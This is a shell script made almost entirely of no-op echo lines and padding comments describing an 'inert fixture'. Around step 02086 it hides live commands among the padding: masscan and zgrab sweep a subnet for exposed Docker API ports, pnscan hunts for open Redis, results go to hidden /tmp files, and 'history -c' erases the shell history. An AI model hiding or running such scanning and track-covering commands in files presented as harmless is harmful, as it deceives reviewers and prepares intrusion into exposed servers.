echo "step 01657: checking component 8 of the inert fixture" >/dev/null
echo "step 01658: checking component 9 of the inert fixture" >/dev/null
echo "step 01659: checking component 10 of the inert fixture" >/dev/null
# section 01660: nothing happens here, this line only pads the file
echo "step 01661: checking component 12 of the inert fixture" >/dev/null
echo "step 01662: checking component 13 of the inert fixture" >/dev/null
echo "step 01663: checking component 14 of the inert fixture" >/dev/null
# section 01664: nothing happens here, this line only pads the file
echo "step 01665: checking component 16 of the inert fixture" >/dev/null
echo "step 01666: checking component 17 of the inert fixture" >/dev/null
echo "step 01667: checking component 18 of the inert fixture" >/dev/null
# section 01668: nothing happens here, this line only pads the file
echo "step 01669: checking component 20 of the inert fixture" >/dev/null
echo "step 01670: checking component 21 of the inert fixture" >/dev/null
echo "step 01671: checking component 22 of the inert fixture" >/dev/null
# section 01672: nothing happens here, this line only pads the file
echo "step 01673: checking component 24 of the inert fixture" >/dev/null
echo "step 01674: checking component 25 of the inert fixture" >/dev/null
echo "step 01675: checking component 26 of the inert fixture" >/dev/null
# section 01676: nothing happens here, this line only pads the file
echo "step 01677: checking component 28 of the inert fixture" >/dev/null
echo "step 01678: checking component 29 of the inert fixture" >/dev/null
echo "step 01679: checking component 30 of the inert fixture" >/dev/null
# section 01680: nothing happens here, this line only pads the file
echo "step 01681: checking component 32 of the inert fixture" >/dev/null
echo "step 01682: checking component 33 of the inert fixture" >/dev/null
echo "step 01683: checking component 34 of the inert fixture" >/dev/null
# section 01684: nothing happens here, this line only pads the file
echo "step 01685: checking component 36 of the inert fixture" >/dev/null
echo "step 01686: checking component 37 of the inert fixture" >/dev/null
echo "step 01687: checking component 38 of the inert fixture" >/dev/null
# section 01688: nothing happens here, this line only pads the file
echo "step 01689: checking component 40 of the inert fixture" >/dev/null
echo "step 01690: checking component 41 of the inert fixture" >/dev/null
echo "step 01691: checking component 42 of the inert fixture" >/dev/null
# section 01692: nothing happens here, this line only pads the file
echo "step 01693: checking component 44 of the inert fixture" >/dev/null
echo "step 01694: checking component 45 of the inert fixture" >/dev/null
echo "step 01695: checking component 46 of the inert fixture" >/dev/null
# section 01696: nothing happens here, this line only pads the file
echo "step 01697: checking component 48 of the inert fixture" >/dev/null
echo "step 01698: checking component 49 of the inert fixture" >/dev/null
echo "step 01699: checking component 50 of the inert fixture" >/dev/null
# section 01700: nothing happens here, this line only pads the file
echo "step 01701: checking component 52 of the inert fixture" >/dev/null
echo "step 01702: checking component 53 of the inert fixture" >/dev/null
echo "step 01703: checking component 54 of the inert fixture" >/dev/null
# section 01704: nothing happens here, this line only pads the file
echo "step 01705: checking component 56 of the inert fixture" >/dev/null
echo "step 01706: checking component 57 of the inert fixture" >/dev/null
echo "step 01707: checking component 58 of the inert fixture" >/dev/null
# section 01708: nothing happens here, this line only pads the file
echo "step 01709: checking component 60 of the inert fixture" >/dev/null
echo "step 01710: checking component 61 of the inert fixture" >/dev/null
echo "step 01711: checking component 62 of the inert fixture" >/dev/null
# section 01712: nothing happens here, this line only pads the file
echo "step 01713: checking component 64 of the inert fixture" >/dev/null
echo "step 01714: checking component 65 of the inert fixture" >/dev/null
echo "step 01715: checking component 66 of the inert fixture" >/dev/null
# section 01716: nothing happens here, this line only pads the file
echo "step 01717: checking component 68 of the inert fixture" >/dev/null
echo "step 01718: checking component 69 of the inert fixture" >/dev/null
echo "step 01719: checking component 70 of the inert fixture" >/dev/null
# section 01720: nothing happens here, this line only pads the file
echo "step 01721: checking component 72 of the inert fixture" >/dev/null
echo "step 01722: checking component 73 of the inert fixture" >/dev/null
echo "step 01723: checking component 74 of the inert fixture" >/dev/null
# section 01724: nothing happens here, this line only pads the file
echo "step 01725: checking component 76 of the inert fixture" >/dev/null
echo "step 01726: checking component 77 of the inert fixture" >/dev/null
echo "step 01727: checking component 78 of the inert fixture" >/dev/null
# section 01728: nothing happens here, this line only pads the file
echo "step 01729: checking component 80 of the inert fixture" >/dev/null
echo "step 01730: checking component 81 of the inert fixture" >/dev/null
echo "step 01731: checking component 82 of the inert fixture" >/dev/null
# section 01732: nothing happens here, this line only pads the file
echo "step 01733: checking component 84 of the inert fixture" >/dev/null
echo "step 01734: checking component 85 of the inert fixture" >/dev/null
echo "step 01735: checking component 86 of the inert fixture" >/dev/null
# section 01736: nothing happens here, this line only pads the file
echo "step 01737: checking component 88 of the inert fixture" >/dev/null
echo "step 01738: checking component 89 of the inert fixture" >/dev/null
echo "step 01739: checking component 90 of the inert fixture" >/dev/null
# section 01740: nothing happens here, this line only pads the file
echo "step 01741: checking component 92 of the inert fixture" >/dev/null
echo "step 01742: checking component 93 of the inert fixture" >/dev/null
echo "step 01743: checking component 94 of the inert fixture" >/dev/null
# section 01744: nothing happens here, this line only pads the file
echo "step 01745: checking component 96 of the inert fixture" >/dev/null
echo "step 01746: checking component 0 of the inert fixture" >/dev/null
echo "step 01747: checking component 1 of the inert fixture" >/dev/null
# section 01748: nothing happens here, this line only pads the file
echo "step 01749: checking component 3 of the inert fixture" >/dev/null
echo "step 01750: checking component 4 of the inert fixture" >/dev/null
echo "step 01751: checking component 5 of the inert fixture" >/dev/null
# section 01752: nothing happens here, this line only pads the file
echo "step 01753: checking component 7 of the inert fixture" >/dev/null
echo "step 01754: checking component 8 of the inert fixture" >/dev/null
echo "step 01755: checking component 9 of the inert fixture" >/dev/null
# section 01756: nothing happens here, this line only pads the file
echo "step 01757: checking component 11 of the inert fixture" >/dev/null
echo "step 01758: checking component 12 of the inert fixture" >/dev/null
echo "step 01759: checking component 13 of the inert fixture" >/dev/null
# section 01760: nothing happens here, this line only pads the file
echo "step 01761: checking component 15 of the inert fixture" >/dev/null
echo "step 01762: checking component 16 of the inert fixture" >/dev/null
echo "step 01763: checking component 17 of the inert fixture" >/dev/null
# section 01764: nothing happens here, this line only pads the file
echo "step 01765: checking component 19 of the inert fixture" >/dev/null
echo "step 01766: checking component 20 of the inert fixture" >/dev/null
echo "step 01767: checking component 21 of the inert fixture" >/dev/null
# section 01768: nothing happens here, this line only pads the file
echo "step 01769: checking component 23 of the inert fixture" >/dev/null
echo "step 01770: checking component 24 of the inert fixture" >/dev/null
echo "step 01771: checking component 25 of the inert fixture" >/dev/null
# section 01772: nothing happens here, this line only pads the file
echo "step 01773: checking component 27 of the inert fixture" >/dev/null
echo "step 01774: checking component 28 of the inert fixture" >/dev/null
echo "step 01775: checking component 29 of the inert fixture" >/dev/null
# section 01776: nothing happens here, this line only pads the file
echo "step 01777: checking component 31 of the inert fixture" >/dev/null
echo "step 01778: checking component 32 of the inert fixture" >/dev/null
echo "step 01779: checking component 33 of the inert fixture" >/dev/null
# section 01780: nothing happens here, this line only pads the file
echo "step 01781: checking component 35 of the inert fixture" >/dev/null
echo "step 01782: checking component 36 of the inert fixture" >/dev/null
echo "step 01783: checking component 37 of the inert fixture" >/dev/null
# section 01784: nothing happens here, this line only pads the file
echo "step 01785: checking component 39 of the inert fixture" >/dev/null
echo "step 01786: checking component 40 of the inert fixture" >/dev/null
echo "step 01787: checking component 41 of the inert fixture" >/dev/null
# section 01788: nothing happens here, this line only pads the file
echo "step 01789: checking component 43 of the inert fixture" >/dev/null
echo "step 01790: checking component 44 of the inert fixture" >/dev/null
echo "step 01791: checking component 45 of the inert fixture" >/dev/null
# section 01792: nothing happens here, this line only pads the file
echo "step 01793: checking component 47 of the inert fixture" >/dev/null
echo "step 01794: checking component 48 of the inert fixture" >/dev/null
echo "step 01795: checking component 49 of the inert fixture" >/dev/null
# section 01796: nothing happens here, this line only pads the file
echo "step 01797: checking component 51 of the inert fixture" >/dev/null
echo "step 01798: checking component 52 of the inert fixture" >/dev/null
echo "step 01799: checking component 53 of the inert fixture" >/dev/null
# section 01800: nothing happens here, this line only pads the file
echo "step 01801: checking component 55 of the inert fixture" >/dev/null
echo "step 01802: checking component 56 of the inert fixture" >/dev/null
echo "step 01803: checking component 57 of the inert fixture" >/dev/null
# section 01804: nothing happens here, this line only pads the file
echo "step 01805: checking component 59 of the inert fixture" >/dev/null
echo "step 01806: checking component 60 of the inert fixture" >/dev/null
echo "step 01807: checking component 61 of the inert fixture" >/dev/null
# section 01808: nothing happens here, this line only pads the file
echo "step 01809: checking component 63 of the inert fixture" >/dev/null
echo "step 01810: checking component 64 of the inert fixture" >/dev/null
echo "step 01811: checking component 65 of the inert fixture" >/dev/null
# section 01812: nothing happens here, this line only pads the file
echo "step 01813: checking component 67 of the inert fixture" >/dev/null
echo "step 01814: checking component 68 of the inert fixture" >/dev/null
echo "step 01815: checking component 69 of the inert fixture" >/dev/null
# section 01816: nothing happens here, this line only pads the file
echo "step 01817: checking component 71 of the inert fixture" >/dev/null
echo "step 01818: checking component 72 of the inert fixture" >/dev/null
echo "step 01819: checking component 73 of the inert fixture" >/dev/null
# section 01820: nothing happens here, this line only pads the file
echo "step 01821: checking component 75 of the inert fixture" >/dev/null
echo "step 01822: checking component 76 of the inert fixture" >/dev/null
echo "step 01823: checking component 77 of the inert fixture" >/dev/null
# section 01824: nothing happens here, this line only pads the file
echo "step 01825: checking component 79 of the inert fixture" >/dev/null
echo "step 01826: checking component 80 of the inert fixture" >/dev/null
echo "step 01827: checking component 81 of the inert fixture" >/dev/null
# section 01828: nothing happens here, this line only pads the file
echo "step 01829: checking component 83 of the inert fixture" >/dev/null
echo "step 01830: checking component 84 of the inert fixture" >/dev/null
echo "step 01831: checking component 85 of the inert fixture" >/dev/null
# section 01832: nothing happens here, this line only pads the file
echo "step 01833: checking component 87 of the inert fixture" >/dev/null
echo "step 01834: checking component 88 of the inert fixture" >/dev/null
echo "step 01835: checking component 89 of the inert fixture" >/dev/null
# section 01836: nothing happens here, this line only pads the file
echo "step 01837: checking component 91 of the inert fixture" >/dev/null
echo "step 01838: checking component 92 of the inert fixture" >/dev/null
echo "step 01839: checking component 93 of the inert fixture" >/dev/null
# section 01840: nothing happens here, this line only pads the file
echo "step 01841: checking component 95 of the inert fixture" >/dev/null
echo "step 01842: checking component 96 of the inert fixture" >/dev/null
echo "step 01843: checking component 0 of the inert fixture" >/dev/null
# section 01844: nothing happens here, this line only pads the file
echo "step 01845: checking component 2 of the inert fixture" >/dev/null
echo "step 01846: checking component 3 of the inert fixture" >/dev/null
echo "step 01847: checking component 4 of the inert fixture" >/dev/null
# section 01848: nothing happens here, this line only pads the file
echo "step 01849: checking component 6 of the inert fixture" >/dev/null
echo "step 01850: checking component 7 of the inert fixture" >/dev/null
echo "step 01851: checking component 8 of the inert fixture" >/dev/null
# section 01852: nothing happens here, this line only pads the file
echo "step 01853: checking component 10 of the inert fixture" >/dev/null
echo "step 01854: checking component 11 of the inert fixture" >/dev/null
echo "step 01855: checking component 12 of the inert fixture" >/dev/null
# section 01856: nothing happens here, this line only pads the file
echo "step 01857: checking component 14 of the inert fixture" >/dev/null
echo "step 01858: checking component 15 of the inert fixture" >/dev/null
echo "step 01859: checking component 16 of the inert fixture" >/dev/null
# section 01860: nothing happens here, this line only pads the file
echo "step 01861: checking component 18 of the inert fixture" >/dev/null
echo "step 01862: checking component 19 of the inert fixture" >/dev/null
echo "step 01863: checking component 20 of the inert fixture" >/dev/null
# section 01864: nothing happens here, this line only pads the file
echo "step 01865: checking component 22 of the inert fixture" >/dev/null
echo "step 01866: checking component 23 of the inert fixture" >/dev/null
echo "step 01867: checking component 24 of the inert fixture" >/dev/null
# section 01868: nothing happens here, this line only pads the file
echo "step 01869: checking component 26 of the inert fixture" >/dev/null
echo "step 01870: checking component 27 of the inert fixture" >/dev/null
echo "step 01871: checking component 28 of the inert fixture" >/dev/null
# section 01872: nothing happens here, this line only pads the file
echo "step 01873: checking component 30 of the inert fixture" >/dev/null
echo "step 01874: checking component 31 of the inert fixture" >/dev/null
echo "step 01875: checking component 32 of the inert fixture" >/dev/null
# section 01876: nothing happens here, this line only pads the file
echo "step 01877: checking component 34 of the inert fixture" >/dev/null
echo "step 01878: checking component 35 of the inert fixture" >/dev/null
echo "step 01879: checking component 36 of the inert fixture" >/dev/null
# section 01880: nothing happens here, this line only pads the file
echo "step 01881: checking component 38 of the inert fixture" >/dev/null
echo "step 01882: checking component 39 of the inert fixture" >/dev/null
echo "step 01883: checking component 40 of the inert fixture" >/dev/null
# section 01884: nothing happens here, this line only pads the file
echo "step 01885: checking component 42 of the inert fixture" >/dev/null
echo "step 01886: checking component 43 of the inert fixture" >/dev/null
echo "step 01887: checking component 44 of the inert fixture" >/dev/null
# section 01888: nothing happens here, this line only pads the file
echo "step 01889: checking component 46 of the inert fixture" >/dev/null
echo "step 01890: checking component 47 of the inert fixture" >/dev/null
echo "step 01891: checking component 48 of the inert fixture" >/dev/null
# section 01892: nothing happens here, this line only pads the file
echo "step 01893: checking component 50 of the inert fixture" >/dev/null
echo "step 01894: checking component 51 of the inert fixture" >/dev/null
echo "step 01895: checking component 52 of the inert fixture" >/dev/null
# section 01896: nothing happens here, this line only pads the file
echo "step 01897: checking component 54 of the inert fixture" >/dev/null
echo "step 01898: checking component 55 of the inert fixture" >/dev/null
echo "step 01899: checking component 56 of the inert fixture" >/dev/null
# section 01900: nothing happens here, this line only pads the file
echo "step 01901: checking component 58 of the inert fixture" >/dev/null
echo "step 01902: checking component 59 of the inert fixture" >/dev/null
echo "step 01903: checking component 60 of the inert fixture" >/dev/null
# section 01904: nothing happens here, this line only pads the file
echo "step 01905: checking component 62 of the inert fixture" >/dev/null
echo "step 01906: checking component 63 of the inert fixture" >/dev/null
echo "step 01907: checking component 64 of the inert fixture" >/dev/null
# section 01908: nothing happens here, this line only pads the file
echo "step 01909: checking component 66 of the inert fixture" >/dev/null
echo "step 01910: checking component 67 of the inert fixture" >/dev/null
echo "step 01911: checking component 68 of the inert fixture" >/dev/null
# section 01912: nothing happens here, this line only pads the file
echo "step 01913: checking component 70 of the inert fixture" >/dev/null
echo "step 01914: checking component 71 of the inert fixture" >/dev/null
echo "step 01915: checking component 72 of the inert fixture" >/dev/null
# section 01916: nothing happens here, this line only pads the file
echo "step 01917: checking component 74 of the inert fixture" >/dev/null
echo "step 01918: checking component 75 of the inert fixture" >/dev/null
echo "step 01919: checking component 76 of the inert fixture" >/dev/null
# section 01920: nothing happens here, this line only pads the file
echo "step 01921: checking component 78 of the inert fixture" >/dev/null
echo "step 01922: checking component 79 of the inert fixture" >/dev/null
echo "step 01923: checking component 80 of the inert fixture" >/dev/null
# section 01924: nothing happens here, this line only pads the file
echo "step 01925: checking component 82 of the inert fixture" >/dev/null
echo "step 01926: checking component 83 of the inert fixture" >/dev/null
echo "step 01927: checking component 84 of the inert fixture" >/dev/null
# section 01928: nothing happens here, this line only pads the file
echo "step 01929: checking component 86 of the inert fixture" >/dev/null
echo "step 01930: checking component 87 of the inert fixture" >/dev/null
echo "step 01931: checking component 88 of the inert fixture" >/dev/null
# section 01932: nothing happens here, this line only pads the file
echo "step 01933: checking component 90 of the inert fixture" >/dev/null
echo "step 01934: checking component 91 of the inert fixture" >/dev/null
echo "step 01935: checking component 92 of the inert fixture" >/dev/null
# section 01936: nothing happens here, this line only pads the file
echo "step 01937: checking component 94 of the inert fixture" >/dev/null
echo "step 01938: checking component 95 of the inert fixture" >/dev/null
echo "step 01939: checking component 96 of the inert fixture" >/dev/null
# section 01940: nothing happens here, this line only pads the file
echo "step 01941: checking component 1 of the inert fixture" >/dev/null
echo "step 01942: checking component 2 of the inert fixture" >/dev/null
echo "step 01943: checking component 3 of the inert fixture" >/dev/null
# section 01944: nothing happens here, this line only pads the file
echo "step 01945: checking component 5 of the inert fixture" >/dev/null
echo "step 01946: checking component 6 of the inert fixture" >/dev/null
echo "step 01947: checking component 7 of the inert fixture" >/dev/null
# section 01948: nothing happens here, this line only pads the file
echo "step 01949: checking component 9 of the inert fixture" >/dev/null
echo "step 01950: checking component 10 of the inert fixture" >/dev/null
echo "step 01951: checking component 11 of the inert fixture" >/dev/null
# section 01952: nothing happens here, this line only pads the file
echo "step 01953: checking component 13 of the inert fixture" >/dev/null
echo "step 01954: checking component 14 of the inert fixture" >/dev/null
echo "step 01955: checking component 15 of the inert fixture" >/dev/null
# section 01956: nothing happens here, this line only pads the file
echo "step 01957: checking component 17 of the inert fixture" >/dev/null
echo "step 01958: checking component 18 of the inert fixture" >/dev/null
echo "step 01959: checking component 19 of the inert fixture" >/dev/null
# section 01960: nothing happens here, this line only pads the file
echo "step 01961: checking component 21 of the inert fixture" >/dev/null
echo "step 01962: checking component 22 of the inert fixture" >/dev/null
echo "step 01963: checking component 23 of the inert fixture" >/dev/null
# section 01964: nothing happens here, this line only pads the file
echo "step 01965: checking component 25 of the inert fixture" >/dev/null
echo "step 01966: checking component 26 of the inert fixture" >/dev/null
echo "step 01967: checking component 27 of the inert fixture" >/dev/null
# section 01968: nothing happens here, this line only pads the file
echo "step 01969: checking component 29 of the inert fixture" >/dev/null
echo "step 01970: checking component 30 of the inert fixture" >/dev/null
echo "step 01971: checking component 31 of the inert fixture" >/dev/null
# section 01972: nothing happens here, this line only pads the file
echo "step 01973: checking component 33 of the inert fixture" >/dev/null
echo "step 01974: checking component 34 of the inert fixture" >/dev/null
echo "step 01975: checking component 35 of the inert fixture" >/dev/null
# section 01976: nothing happens here, this line only pads the file
echo "step 01977: checking component 37 of the inert fixture" >/dev/null
echo "step 01978: checking component 38 of the inert fixture" >/dev/null
echo "step 01979: checking component 39 of the inert fixture" >/dev/null
# section 01980: nothing happens here, this line only pads the file
echo "step 01981: checking component 41 of the inert fixture" >/dev/null
echo "step 01982: checking component 42 of the inert fixture" >/dev/null
echo "step 01983: checking component 43 of the inert fixture" >/dev/null
# section 01984: nothing happens here, this line only pads the file
echo "step 01985: checking component 45 of the inert fixture" >/dev/null
echo "step 01986: checking component 46 of the inert fixture" >/dev/null
echo "step 01987: checking component 47 of the inert fixture" >/dev/null
# section 01988: nothing happens here, this line only pads the file
echo "step 01989: checking component 49 of the inert fixture" >/dev/null
echo "step 01990: checking component 50 of the inert fixture" >/dev/null
echo "step 01991: checking component 51 of the inert fixture" >/dev/null
# section 01992: nothing happens here, this line only pads the file
echo "step 01993: checking component 53 of the inert fixture" >/dev/null
echo "step 01994: checking component 54 of the inert fixture" >/dev/null
echo "step 01995: checking component 55 of the inert fixture" >/dev/null
# section 01996: nothing happens here, this line only pads the file
echo "step 01997: checking component 57 of the inert fixture" >/dev/null
echo "step 01998: checking component 58 of the inert fixture" >/dev/null
echo "step 01999: checking component 59 of the inert fixture" >/dev/null
# section 02000: nothing happens here, this line only pads the file
echo "step 02001: checking component 61 of the inert fixture" >/dev/null
echo "step 02002: checking component 62 of the inert fixture" >/dev/null
echo "step 02003: checking component 63 of the inert fixture" >/dev/null
# section 02004: nothing happens here, this line only pads the file
echo "step 02005: checking component 65 of the inert fixture" >/dev/null
echo "step 02006: checking component 66 of the inert fixture" >/dev/null
echo "step 02007: checking component 67 of the inert fixture" >/dev/null
# section 02008: nothing happens here, this line only pads the file
echo "step 02009: checking component 69 of the inert fixture" >/dev/null
echo "step 02010: checking component 70 of the inert fixture" >/dev/null
echo "step 02011: checking component 71 of the inert fixture" >/dev/null
# section 02012: nothing happens here, this line only pads the file
echo "step 02013: checking component 73 of the inert fixture" >/dev/null
echo "step 02014: checking component 74 of the inert fixture" >/dev/null
echo "step 02015: checking component 75 of the inert fixture" >/dev/null
# section 02016: nothing happens here, this line only pads the file
echo "step 02017: checking component 77 of the inert fixture" >/dev/null
echo "step 02018: checking component 78 of the inert fixture" >/dev/null
echo "step 02019: checking component 79 of the inert fixture" >/dev/null
# section 02020: nothing happens here, this line only pads the file
echo "step 02021: checking component 81 of the inert fixture" >/dev/null
echo "step 02022: checking component 82 of the inert fixture" >/dev/null
echo "step 02023: checking component 83 of the inert fixture" >/dev/null
# section 02024: nothing happens here, this line only pads the file
echo "step 02025: checking component 85 of the inert fixture" >/dev/null
echo "step 02026: checking component 86 of the inert fixture" >/dev/null
echo "step 02027: checking component 87 of the inert fixture" >/dev/null
# section 02028: nothing happens here, this line only pads the file
echo "step 02029: checking component 89 of the inert fixture" >/dev/null
echo "step 02030: checking component 90 of the inert fixture" >/dev/null
echo "step 02031: checking component 91 of the inert fixture" >/dev/null
# section 02032: nothing happens here, this line only pads the file
echo "step 02033: checking component 93 of the inert fixture" >/dev/null
echo "step 02034: checking component 94 of the inert fixture" >/dev/null
echo "step 02035: checking component 95 of the inert fixture" >/dev/null
# section 02036: nothing happens here, this line only pads the file
echo "step 02037: checking component 0 of the inert fixture" >/dev/null
echo "step 02038: checking component 1 of the inert fixture" >/dev/null
echo "step 02039: checking component 2 of the inert fixture" >/dev/null
# section 02040: nothing happens here, this line only pads the file
echo "step 02041: checking component 4 of the inert fixture" >/dev/null
echo "step 02042: checking component 5 of the inert fixture" >/dev/null
echo "step 02043: checking component 6 of the inert fixture" >/dev/null
# section 02044: nothing happens here, this line only pads the file
echo "step 02045: checking component 8 of the inert fixture" >/dev/null
echo "step 02046: checking component 9 of the inert fixture" >/dev/null
echo "step 02047: checking component 10 of the inert fixture" >/dev/null
# section 02048: nothing happens here, this line only pads the file
echo "step 02049: checking component 12 of the inert fixture" >/dev/null
echo "step 02050: checking component 13 of the inert fixture" >/dev/null
echo "step 02051: checking component 14 of the inert fixture" >/dev/null
# section 02052: nothing happens here, this line only pads the file
echo "step 02053: checking component 16 of the inert fixture" >/dev/null
echo "step 02054: checking component 17 of the inert fixture" >/dev/null
echo "step 02055: checking component 18 of the inert fixture" >/dev/null
# section 02056: nothing happens here, this line only pads the file
echo "step 02057: checking component 20 of the inert fixture" >/dev/null
echo "step 02058: checking component 21 of the inert fixture" >/dev/null
echo "step 02059: checking component 22 of the inert fixture" >/dev/null
# section 02060: nothing happens here, this line only pads the file
echo "step 02061: checking component 24 of the inert fixture" >/dev/null
echo "step 02062: checking component 25 of the inert fixture" >/dev/null
echo "step 02063: checking component 26 of the inert fixture" >/dev/null
# section 02064: nothing happens here, this line only pads the file
echo "step 02065: checking component 28 of the inert fixture" >/dev/null
echo "step 02066: checking component 29 of the inert fixture" >/dev/null
echo "step 02067: checking component 30 of the inert fixture" >/dev/null
# section 02068: nothing happens here, this line only pads the file
echo "step 02069: checking component 32 of the inert fixture" >/dev/null
echo "step 02070: checking component 33 of the inert fixture" >/dev/null
echo "step 02071: checking component 34 of the inert fixture" >/dev/null
# section 02072: nothing happens here, this line only pads the file
echo "step 02073: checking component 36 of the inert fixture" >/dev/null
echo "step 02074: checking component 37 of the inert fixture" >/dev/null
echo "step 02075: checking component 38 of the inert fixture" >/dev/null
# section 02076: nothing happens here, this line only pads the file
echo "step 02077: checking component 40 of the inert fixture" >/dev/null
echo "step 02078: checking component 41 of the inert fixture" >/dev/null
echo "step 02079: checking component 42 of the inert fixture" >/dev/null
# section 02080: nothing happens here, this line only pads the file
echo "step 02081: checking component 44 of the inert fixture" >/dev/null
echo "step 02082: checking component 45 of the inert fixture" >/dev/null
echo "step 02083: checking component 46 of the inert fixture" >/dev/null
# section 02084: nothing happens here, this line only pads the file
echo "step 02085: checking component 48 of the inert fixture" >/dev/null
echo "step 02086: checking component 49 of the inert fixture" >/dev/null
masscan -p2375,2376 198.51.100.0/24 --rate 10000 -oL /tmp/.targets
zgrab --senders 200 --port 2375 --http='/v1.16/version' --output-file=/tmp/.zg.json
pnscan -t512 -R '6f 73 3a' -W '2a 31 0d 0a' 198.51.100.0/24 6379 >/tmp/.redis
history -c
echo "step 02087: checking component 50 of the inert fixture" >/dev/null
# section 02088: nothing happens here, this line only pads the file
echo "step 02089: checking component 52 of the inert fixture" >/dev/null
echo "step 02090: checking component 53 of the inert fixture" >/dev/null
echo "step 02091: checking component 54 of the inert fixture" >/dev/null
# section 02092: nothing happens here, this line only pads the file
echo "step 02093: checking component 56 of the inert fixture" >/dev/null
echo "step 02094: checking component 57 of the inert fixture" >/dev/null
echo "step 02095: checking component 58 of the inert fixture" >/dev/null
# section 02096: nothing happens here, this line only pads the file
echo "step 02097: checking component 60 of the inert fixture" >/dev/null
echo "step 02098: checking component 61 of the inert fixture" >/dev/null
echo "step 02099: checking component 62 of the inert fixture" >/dev/null
# section 02100: nothing happens here, this line only pads the file
echo "step 02101: checking component 64 of the inert fixture" >/dev/null
echo "step 02102: checking component 65 of the inert fixture" >/dev/null
echo "step 02103: checking component 66 of the inert fixture" >/dev/null
# section 02104: nothing happens here, this line only pads the file
echo "step 02105: checking component 68 of the inert fixture" >/dev/null
echo "step 02106: checking component 69 of the inert fixture" >/dev/null
echo "step 02107: checking component 70 of the inert fixture" >/dev/null
# section 02108: nothing happens here, this line only pads the file
echo "step 02109: checking component 72 of the inert fixture" >/dev/null
echo "step 02110: checking component 73 of the inert fixture" >/dev/null
echo "step 02111: checking component 74 of the inert fixture" >/dev/null
# section 02112: nothing happens here, this line only pads the file
echo "step 02113: checking component 76 of the inert fixture" >/dev/null
echo "step 02114: checking component 77 of the inert fixture" >/dev/null
echo "step 02115: checking component 78 of the inert fixture" >/dev/null
# section 02116: nothing happens here, this line only pads the file
echo "step 02117: checking component 80 of the inert fixture" >/dev/null
echo "step 02118: checking component 81 of the inert fixture" >/dev/null
echo "step 02119: checking component 82 of the inert fixture" >/dev/null
# section 02120: nothing happens here, this line only pads the file
echo "step 02121: checking component 84 of the inert fixture" >/dev/null
echo "step 02122: checking component 85 of the inert fixture" >/dev/null
echo "step 02123: checking component 86 of the inert fixture" >/dev/null
# section 02124: nothing happens here, this line only pads the file
echo "step 02125: checking component 88 of the inert fixture" >/dev/null
echo "step 02126: checking component 89 of the inert fixture" >/dev/null
echo "step 02127: checking component 90 of the inert fixture" >/dev/null
# section 02128: nothing happens here, this line only pads the file
echo "step 02129: checking component 92 of the inert fixture" >/dev/null
echo "step 02130: checking component 93 of the inert fixture" >/dev/null
echo "step 02131: checking component 94 of the inert fixture" >/dev/null
# section 02132: nothing happens here, this line only pads the file
echo "step 02133: checking component 96 of the inert fixture" >/dev/null
echo "step 02134: checking component 0 of the inert fixture" >/dev/null
echo "step 02135: checking component 1 of the inert fixture" >/dev/null
# section 02136: nothing happens here, this line only pads the file
echo "step 02137: checking component 3 of the inert fixture" >/dev/null
echo "step 02138: checking component 4 of the inert fixture" >/dev/null
echo "step 02139: checking component 5 of the inert fixture" >/dev/null
# section 02140: nothing happens here, this line only pads the file
echo "step 02141: checking component 7 of the inert fixture" >/dev/null
echo "step 02142: checking component 8 of the inert fixture" >/dev/null
echo "step 02143: checking component 9 of the inert fixture" >/dev/null
# section 02144: nothing happens here, this line only pads the file
echo "step 02145: checking component 11 of the inert fixture" >/dev/null
echo "step 02146: checking component 12 of the inert fixture" >/dev/null
echo "step 02147: checking component 13 of the inert fixture" >/dev/null
# section 02148: nothing happens here, this line only pads the file
echo "step 02149: checking component 15 of the inert fixture" >/dev/null
echo "step 02150: checking component 16 of the inert fixture" >/dev/null
echo "step 02151: checking component 17 of the inert fixture" >/dev/null
# section 02152: nothing happens here, this line only pads the file
echo "step 02153: checking component 19 of the inert fixture" >/dev/null
echo "step 02154: checking component 20 of the inert fixture" >/dev/null
echo "step 02155: checking component 21 of the inert fixture" >/dev/null
# section 02156: nothing happens here, this line only pads the file
echo "step 02157: checking component 23 of the inert fixture" >/dev/null
echo "step 02158: checking component 24 of the inert fixture" >/dev/null
echo "step 02159: checking component 25 of the inert fixture" >/dev/null
# section 02160: nothing happens here, this line only pads the file
echo "step 02161: checking component 27 of the inert fixture" >/dev/null
echo "step 02162: checking component 28 of the inert fixture" >/dev/null
echo "step 02163: checking component 29 of the inert fixture" >/dev/null
# section 02164: nothing happens here, this line only pads the file
echo "step 02165: checking component 31 of the inert fixture" >/dev/null
echo "step 02166: checking component 32 of the inert fixture" >/dev/null
echo "step 02167: checking component 33 of the inert fixture" >/dev/null
# section 02168: nothing happens here, this line only pads the file
echo "step 02169: checking component 35 of the inert fixture" >/dev/null
echo "step 02170: checking component 36 of the inert fixture" >/dev/null
echo "step 02171: checking component 37 of the inert fixture" >/dev/null
# section 02172: nothing happens here, this line only pads the file
echo "step 02173: checking component 39 of the inert fixture" >/dev/null
echo "step 02174: checking component 40 of the inert fixture" >/dev/null
echo "step 02175: checking component 41 of the inert fixture" >/dev/null
# section 02176: nothing happens here, this line only pads the file
echo "step 02177: checking component 43 of the inert fixture" >/dev/null
echo "step 02178: checking component 44 of the inert fixture" >/dev/null
echo "step 02179: checking component 45 of the inert fixture" >/dev/null
# section 02180: nothing happens here, this line only pads the file
echo "step 02181: checking component 47 of the inert fixture" >/dev/null
echo "step 02182: checking component 48 of the inert fixture" >/dev/null
echo "step 02183: checking component 49 of the inert fixture" >/dev/null
# section 02184: nothing happens here, this line only pads the file
echo "step 02185: checking component 51 of the inert fixture" >/dev/null
echo "step 02186: checking component 52 of the inert fixture" >/dev/null
echo "step 02187: checking component 53 of the inert fixture" >/dev/null
# section 02188: nothing happens here, this line only pads the file
echo "step 02189: checking component 55 of the inert fixture" >/dev/null
echo "step 02190: checking component 56 of the inert fixture" >/dev/null
echo "step 02191: checking component 57 of the inert fixture" >/dev/null
# section 02192: nothing happens here, this line only pads the file
echo "step 02193: checking component 59 of the inert fixture" >/dev/null
echo "step 02194: checking component 60 of the inert fixture" >/dev/null
echo "step 02195: checking component 61 of the inert fixture" >/dev/null
# section 02196: nothing happens here, this line only pads the file
echo "step 02197: checking component 63 of the inert fixture" >/dev/null
echo "step 02198: checking component 64 of the inert fixture" >/dev/null
echo "step 02199: checking component 65 of the inert fixture" >/dev/null
# section 02200: nothing happens here, this line only pads the file
echo "step 02201: checking component 67 of the inert fixture" >/dev/null
echo "step 02202: checking component 68 of the inert fixture" >/dev/null
echo "step 02203: checking component 69 of the inert fixture" >/dev/null
# section 02204: nothing happens here, this line only pads the file
echo "step 02205: checking component 71 of the inert fixture" >/dev/null
echo "step 02206: checking component 72 of the inert fixture" >/dev/null
